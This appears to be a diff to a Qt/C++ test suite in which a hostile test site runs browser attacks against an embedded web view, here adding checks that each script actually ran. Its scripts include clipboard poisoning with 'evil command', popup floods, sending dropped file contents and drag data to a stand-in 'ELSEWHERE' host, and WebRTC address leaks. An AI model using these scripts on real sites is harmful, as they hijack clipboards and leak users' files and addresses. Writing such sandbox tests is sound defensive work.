@@ -37,7 +37,8 @@ QList<Attack> attacksToEscape()
                       .script =
                           "for (const kind of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'])"
                           "addEventListener(kind, () => { for (let i = 0; i < 5; ++i)"
-                          "open('https://example.com/' + kind + i); }); begun = done;",
+                          "open('https://example.com/' + kind + i); });"
+                          "addEventListener('click', ran); begun = done;",
                       .act = pressTarget,
                       .dones = 2,
                       .watch = 800,
@@ -46,7 +47,7 @@ QList<Attack> attacksToEscape()
     attacks << Attack{.name = "one key opens many links",
                       .script = "onkeydown = () => { open('https://example.com/key'); setTimeout(() => {"
                                 "document.links[0].click(); }, 50); setTimeout(() => {"
-                                "document.links[0].click(); }, 300); }; begun = done;",
+                                "document.links[0].click(); ran(); }, 300); }; begun = done;",
                       .markup = "<a href='https://example.com/late'>link</a>",
                       .act =
                           [](Scene &scene, HostileSite &site) {
@@ -59,22 +60,42 @@ QList<Attack> attacksToEscape()
                       .watch = 800,
                       .links = {QStringLiteral("https://example.com/")}};
     attacks << Attack{.name = "color input",
-                      .script = "begun = done;",
+                      .script = "document.querySelector('input').onclick = ran; begun = done;",
                       .markup = target("<input type=color" + wide + ">"),
                       .act = pressTarget,
                       .dones = 2,
                       .watch = 800};
     attacks << Attack{.name = "file input",
-                      .script = "begun = done;",
+                      .script = "document.querySelector('input').onclick = ran; begun = done;",
                       .markup = target("<input type=file" + wide + ">"),
                       .act = pressTarget,
                       .dones = 2,
                       .watch = 800};
+    // The page goes while the engine asks for files.
+    attacks << Attack{.name = "file inputs, and then the next page",
+                      .script = "document.querySelector('input').onclick = () => { ran();"
+                                "for (const how of ['multiple', 'webkitdirectory', 'accept', 'capture']) {"
+                                "const input = document.createElement('input'); input.type = 'file';"
+                                "input[how] = how === 'multiple' || how === 'webkitdirectory' ? true : '.x';"
+                                "document.body.append(input); input.click(); } }; begun = done;",
+                      .markup = target("<input type=file" + wide + ">"),
+                      .act =
+                          [](Scene &scene, HostileSite &site) {
+                              if (site.requested("/ran") == 0) {
+                                  scene.press(onTarget);
+                                  if (!eventually([&] { return site.requested("/ran") > 0; }, 1000))
+                                      return;
+                              }
+                              scene.reload();
+                          },
+                      .dones = 3,
+                      .watch = 800,
+                      .loads = 2};
     attacks << Attack{
         .name = "clipboard after a press",
         .script = "onclick = () => { const field = document.querySelector('textarea'); field.select();"
                   "document.execCommand('copy'); document.execCommand('cut');"
-                  "try { navigator.clipboard.writeText('evil command'); } catch (problem) {} };"
+                  "try { navigator.clipboard.writeText('evil command'); } catch (problem) {} ran(); };"
                   "document.oncopy = event => { event.clipboardData.setData('text/plain', 'evil command');"
                   "event.preventDefault(); }; begun = done;",
         .markup = target("<textarea" + wide + ">evil command</textarea>"),
@@ -87,17 +108,23 @@ QList<Attack> attacksToEscape()
                           "event.preventDefault(); for (const file of event.dataTransfer.files)"
                           "file.text().then(text => fetch('ELSEWHERE/dropped?' + text, {mode: 'no-cors'}));"
                           "fetch('ELSEWHERE/dropped?' + event.dataTransfer.types, {mode: 'no-cors'}); };"
-                          "begun = done;",
+                          "addEventListener('pointerdown', ran); begun = done;",
                       .act =
-                          [](Scene &scene, HostileSite &) {
+                          [](Scene &scene, HostileSite &site) {
+                              // What is dropped there would reach the page if it were let through.
+                              scene.press(onTarget);
+                              if (!eventually([&] { return site.requested("/ran") > 0; }, 1000))
+                                  return;
                               QMimeData data;
                               data.setUrls({QUrl::fromLocalFile(QStringLiteral("/etc/hostname"))});
                               scene.drop(data, onTarget);
                           },
+                      .dones = 2,
                       .watch = 500};
     attacks << Attack{.name = "a drag out of the page",
                       .script = "document.ondragstart = event => { event.dataTransfer.setData('text/plain',"
-                                "'evil'); fetch('ELSEWHERE/drag', {mode: 'no-cors'}); }; begun = done;",
+                                "'evil'); fetch('ELSEWHERE/drag', {mode: 'no-cors'}); };"
+                                "onpointermove = event => { if (event.buttons) ran(); }; begun = done;",
                       .markup = target("<div draggable=true" + wide + ">slide me</div>"),
                       .act = [](Scene &scene, HostileSite &) { scene.drag(onTarget); },
                       .dones = 2,
@@ -107,7 +134,7 @@ QList<Attack> attacksToEscape()
                           "begun = () => { try { const connection = new RTCPeerConnection({iceServers: ["
                           "{urls: 'stun:UDP'}]}); connection.createDataChannel('x');"
                           "connection.createOffer().then(offer => connection.setLocalDescription(offer));"
-                          "} finally { done(); } };",
+                          "} finally { ran(); done(); } };",
                       .watch = 1200};
     attacks << Attack{.name = "WebRTC of an empty frame",
                       .script =
@@ -116,16 +143,16 @@ QList<Attack> attacksToEscape()
                           "new frame.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});"
                           "connection.createDataChannel('x');"
                           "connection.createOffer().then(offer => connection.setLocalDescription(offer));"
-                          "} finally { done(); } };",
+                          "} finally { ran(); done(); } };",
                       .watch = 1200};
     attacks << Attack{.name = "WebRTC of an empty frame in the markup",
-                      .script = "begun = done;",
+                      .script = "begun = () => { if (window.tried) ran(); done(); };",
                       .markup =
                           "<iframe></iframe><script>try { const connection ="
                           "new frames[1].RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});"
                           "connection.createDataChannel('x');"
                           "connection.createOffer().then(offer => connection.setLocalDescription(offer));"
-                          "} catch (problem) {}</script>",
+                          "} catch (problem) {} window.tried = true;</script>",
                       .watch = 1200};
     attacks << Attack{.name = "WebRTC after document.open()",
                       .script =
@@ -134,7 +161,7 @@ QList<Attack> attacksToEscape()
                           "document.createElement(\"iframe\")); const connection ="
                           "new frame.contentWindow.RTCPeerConnection({iceServers: [{urls: \"stun:UDP\"}]});"
                           "connection.createDataChannel(\"x\"); connection.createOffer().then(offer =>"
-                          "connection.setLocalDescription(offer)); } finally { fetch(\"/done\"); } }, 100);"
+                          "connection.setLocalDescription(offer)); } finally { ran(); done(); } }, 100);"
                           "<\\/script>'); document.close(); };",
                       .watch = 1200};
     attacks << Attack{.name = "clipboard after a press, with functions replaced",
@@ -143,7 +170,7 @@ QList<Attack> attacksToEscape()
                           "Event.prototype.stopImmediatePropagation = HTMLElement.prototype.blur = () => {};"
                           "Object.defineProperty(Document.prototype, 'activeElement', {get() { throw 1; }});"
                           "onclick = () => { const field = document.querySelector('textarea'); field.focus();"
-                          "field.select(); document.execCommand('copy'); };"
+                          "field.select(); document.execCommand('copy'); ran(); };"
                           "document.oncopy = event => { event.clipboardData.setData('text/plain', 'evil');"
                           "event.preventDefault(); }; begun = done;",
                       .markup = target("<textarea" + wide + ">evil command</textarea>"),
@@ -162,49 +189,61 @@ QList<Attack> attacksToEscape()
                                   "</script></head><body/></html>");
                           },
                       .isSilent = true,
+                      .proof = {"/page"},
                       .deadline = 2500,
                       .error = SmartCaptchaError::Code::LoadFailed};
     attacks << Attack{.name = "scripts of the program's resources",
                       .script = "begun = () => { const script = document.createElement('script');"
                                 "script.src = 'qrc:/qtwebchannel/qwebchannel.js';"
-                                "script.onload = () => { if (window.QWebChannel)"
-                                "fetch('ELSEWHERE/resource', {mode: 'no-cors'}); };"
+                                "script.onload = script.onerror = () => { if (window.QWebChannel)"
+                                "fetch('ELSEWHERE/resource', {mode: 'no-cors'}); ran(); };"
                                 "document.head.append(script); done(); };",
                       .watch = 600};
-    attacks << Attack{.name = "alert, confirm, prompt",
-                      .script =
-                          "begun = () => { alert('a'); confirm('b'); prompt('c', 'd'); print(); done(); };",
-                      .watch = 600};
+    attacks << Attack{
+        .name = "alert, confirm, prompt",
+        .script = "begun = () => { alert('a'); confirm('b'); prompt('c', 'd'); print(); ran(); done(); };",
+        .watch = 600};
     attacks << Attack{.name = "beforeunload",
                       .script =
                           "onbeforeunload = event => { event.preventDefault(); event.returnValue = 'stay'; };"
-                          "begun = done;",
+                          "addEventListener('pointerdown', ran); begun = done;",
                       .act =
-                          [](Scene &scene, HostileSite &) {
+                          [](Scene &scene, HostileSite &site) {
+                              // A page that nobody has pressed in may not ask.
                               scene.press(onTarget);
-                              scene.reload();
+                              if (eventually([&] { return site.requested("/ran") > 0; }, 1000))
+                                  scene.reload();
                           },
+                      .dones = 3,
                       .watch = 2500,
                       .loads = 2,
                       .staysReady = true};
     attacks << Attack{.name = "context menu",
-                      .script = "begun = done;",
+                      .script = "oncontextmenu = ran; begun = done;",
                       .markup = target("<textarea" + wide + ">text</textarea>"),
                       .act =
                           [](Scene &scene, HostileSite &) {
                               QTest::mouseClick(scene.window(), Qt::RightButton, {},
                                                 scene.inWindow(onTarget));
                           },
+                      .dones = 2,
                       .watch = 600};
     attacks << Attack{.name = "user name and password",
-                      .script = "begun = () => { fetch('/locked').finally(done); };",
+                      .script = "begun = () => { fetch('/locked').finally(() => { ran(); done(); }); };",
+                      .prepare =
+                          [](HostileSite &site) {
+                              site.respond("/locked",
+                                           ScriptedServer::answer("no", "401 Unauthorized",
+                                                                  "WWW-Authenticate: Basic realm=\"x\"\r\n"));
+                          },
+                      .proof = {"/ran", "/locked"},
                       .watch = 600};
     attacks << Attack{.name = "redirect elsewhere",
-                      .script = "location.href = 'ELSEWHERE/page'; begun = done;",
+                      .script = "ran(); location.href = 'ELSEWHERE/page'; begun = done;",
                       .watch = 800};
     attacks << Attack{.name = "service worker of one load answers the next",
                       .script = "navigator.serviceWorker.register('/worker.js').then(() =>"
-                                "navigator.serviceWorker.ready).then(() => { console.log('registered'); "
+                                "navigator.serviceWorker.ready).then(() => { ran(); "
                                 "done(); }, e => { console.log('no: ' + e); done(); });",
                       .prepare =
                           [](HostileSite &site) {
